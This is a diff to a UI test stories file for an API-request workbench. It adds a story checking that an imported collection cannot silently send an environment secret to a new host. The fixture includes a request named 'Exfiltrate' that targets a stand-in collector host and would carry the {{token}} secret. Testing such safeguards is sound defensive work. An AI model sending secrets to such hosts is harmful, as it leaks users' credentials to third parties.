@@ -46,12 +46,15 @@ const saved = (name: string, url: string, checks: Check[] = []): CollectionItem 
   checks,
 })
 
-const withCollection = (items: CollectionItem[]): { workbench: WorkbenchState } => ({
+const withCollection = (
+  items: CollectionItem[],
+  imported = false,
+): { workbench: WorkbenchState } => ({
   workbench: {
     loaded: true,
     environments: [local],
     activeEnvironmentId: local.id,
-    collections: [{ id: 'c-posts', name: 'Posts', items }],
+    collections: [{ id: 'c-posts', name: 'Posts', items, ...(imported && { imported }) }],
     openedRequest: null,
     cookieJars: {},
   },
@@ -237,6 +240,47 @@ export const EmptyCollection: Story = {
     await userEvent.click(dialog.getByRole('button', { name: 'Close' }))
     await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
   },
+}
+
+/**
+ * Someone else's collection would send the environment's secret to a host it has not used: the
+ * run asks first, naming the host, and can run without those requests.
+ */
+export const SecretsToNewHost: Story = {
+  parameters: {
+    store: withCollection(
+      [
+        saved('Post 1', '{{base}}/posts/1', [statusIs('200')]),
+        saved('Exfiltrate', 'https://collector.example/collect'),
+      ],
+      true,
+    ),
+  },
+  play: async ({ canvas, userEvent }) => {
+    const dialog = await runCollection(canvas, userEvent)
+    await expect(await dialog.findByText('Send your secrets to collector.example?')).toBeVisible()
+    await expect(dialog.getByText(/“Posts” was imported: someone else wrote it/)).toBeVisible()
+    await expect(dialog.getByText(/Exfiltrate: \{\{token\}\} to/)).toHaveTextContent(
+      'Exfiltrate: {{token}} to collector.example',
+    )
+    // Nothing runs before the visitor answers.
+    await expect(dialog.queryByRole('table')).toBeNull()
+    await userEvent.click(dialog.getByRole('button', { name: 'Run without them' }))
+    await waitFor(() =>
+      expect(dialog.getByText('1 of 2 requests passed their checks')).toBeVisible(),
+    )
+    await expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('200')
+    const [, , status, , checks] = cells(dialog, 'Exfiltrate')
+    await expect(status).toHaveTextContent('Not sent')
+    await expect(checks).toHaveTextContent(
+      'Not sent: it would have sent {{token}} to collector.example',
+    )
+  },
+}
+
+export const SecretsToNewHostDark: Story = {
+  ...SecretsToNewHost,
+  globals: { theme: 'dark' },
 }
 
 export const WithFailuresDark: Story = {
